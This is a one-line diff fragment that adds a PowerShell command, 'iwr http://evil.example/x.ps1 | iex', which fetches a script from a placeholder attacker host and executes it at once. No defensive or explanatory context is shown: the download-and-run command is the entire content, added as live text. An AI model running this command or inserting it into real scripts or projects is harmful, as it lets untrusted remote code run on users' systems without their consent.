@@ -1,0 +1,1 @@
+iwr http://evil.example/x.ps1 | iex
